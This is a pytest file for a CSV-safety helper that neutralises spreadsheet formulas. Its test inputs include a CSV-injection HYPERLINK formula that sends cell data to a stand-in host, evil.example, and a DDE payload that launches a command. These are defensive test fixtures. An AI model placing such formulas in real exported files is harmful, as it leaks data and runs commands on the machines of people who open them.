"""The one rule against formulas in CSV cells (edinsights.csv_safety), cell by cell."""

from __future__ import annotations

from datetime import date
from decimal import Decimal

import pytest

from edinsights.csv_safety import safe_cell, safe_row


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ('=HYPERLINK("http://evil.example/?"&A1,"x")', '\'=HYPERLINK("http://evil.example/?"&A1,"x")'),
        ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
        ("@SUM(1)", "'@SUM(1)"),
        ("-1+1", "'-1+1"),
        ("+1e3", "'+1e3"),
        ("-", "'-"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        # Text that is exactly a plain decimal number: a spreadsheet reads that number, nothing else.
        ("-3", "-3"),
        ("+1", "+1"),
        ("-0.5", "-0.5"),
        ("-.5", "-.5"),
        # Text that does not start with a formula character, or is already neutralised.
        ("Blue", "Blue"),
        ("a=b", "a=b"),
        ("'=1", "'=1"),
        ("", ""),
        ("2024-03-04", "2024-03-04"),
    ],
)
def test_text_cells(value: str, written: str) -> None:
    assert safe_cell(value) == written


@pytest.mark.parametrize("value", [-3, -0.5, 0, 12, Decimal("-1.25"), True, None, date(2024, 3, 4)])
def test_non_text_values_are_written_as_they_are(value: object) -> None:
    assert safe_cell(value) is value


def test_a_row() -> None:
    assert safe_row(["=1", -1, "ok"]) == ["'=1", -1, "ok"]
